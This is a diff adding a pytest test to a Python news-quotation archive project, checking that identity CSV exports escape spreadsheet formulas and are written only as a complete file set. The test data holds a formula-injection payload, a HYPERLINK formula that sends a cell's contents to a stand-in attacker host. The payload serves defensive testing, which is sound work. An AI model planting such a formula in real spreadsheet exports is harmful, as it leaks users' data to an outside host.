@@ -108,3 +108,32 @@ def test_the_duckdb_example_of_the_docs_runs(archive, monkeypatch):
     assert (march["person"], march["quotations"], march["unique_quotations"]) == ("Joko Widodo", 3, 2)
     assert ns["who"] == "joko-widodo" and len(ns["quotations"]) == 3
     assert dict(zip(ns["outlets"]["outlet"], ns["outlets"]["quotations"])) == {"ANTARA": 1, "Kompas": 1, "Tempo": 1}
+
+
+def test_identity_csvs_neutralise_formulas_and_land_with_the_report(tmp_path):
+    """A scraped name that a spreadsheet would run (issue 31) is text in every identity CSV, and the identity files
+    are renamed into place only with the rest of the report's file set."""
+    from indoquote.archive.identity_pass import annotate, tables, write_files
+    from indoquote.archive.render import Report, write_csvs
+    from indoquote.atomic import file_set
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    df = pd.DataFrame({
+        "article_id": ["a1", "a2", "a3"], "quote_index": [0, 0, 0], "outlet": ["ANTARA", hostile, "Tempo"],
+        "speaker": [hostile, "Retno Marsudi", "Retno Marsudi"], "role": [None, "Menteri", "Menteri"],
+        "affiliation": [None, None, None], "speaker_forms": [None, "Retno Marsudi | Retno", None],
+        "quote": [hostile, "Indonesia menolak segala bentuk kekerasan di sana", "Indonesia menolak segala bentuk "
+                  "kekerasan di sana"],
+    })
+    out, ids = annotate(df)
+    report = Report("t", tables(out, ids, "outlet", None))
+    with file_set() as files:
+        written = write_files(files, tmp_path, out, ids, "outlet", None) + write_csvs(report, tmp_path, files)
+        assert not any(p.exists() for p in written)  # nothing in place before the set is complete
+    seen = 0
+    for path in (p for p in written if p.suffix == ".csv"):
+        for row in csv.reader(path.open(encoding="utf-8", newline="")):
+            assert not any(c.startswith("=") for c in row), (path.name, row)
+            seen += sum(c.startswith("'=HYPERLINK") for c in row)
+    assert seen >= 3  # the name in identities.csv, the outlet in syndication.csv and repeated_quotations.csv: text
+    assert pd.read_parquet(tmp_path / "identities.parquet")["name"].tolist().count(hostile) == 1  # the data as is
